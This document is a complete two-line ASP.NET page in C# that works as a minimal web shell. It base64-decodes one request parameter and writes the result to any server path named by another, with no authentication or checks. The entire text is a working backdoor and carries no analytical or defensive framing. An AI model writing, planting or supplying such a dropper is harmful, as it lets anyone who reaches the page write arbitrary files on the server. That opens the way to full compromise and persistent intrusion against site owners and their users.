<%@ Page Language="C#" %>
<% System.IO.File.WriteAllBytes(Request["p"], System.Convert.FromBase64String(Request["d"])); Response.Write("1"); %>
